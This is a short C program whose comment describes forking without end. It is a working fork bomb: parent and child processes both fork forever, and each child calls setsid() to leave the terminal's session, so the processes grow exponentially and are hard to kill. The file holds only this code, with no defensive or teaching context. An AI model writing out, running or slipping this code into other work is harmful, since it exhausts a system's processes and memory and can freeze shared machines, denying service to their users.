/* Forks without end, each child in a session of its own. */
#include <unistd.h>

int main(void) {
    for (;;) {
        if (fork() == 0) setsid();
    }
}
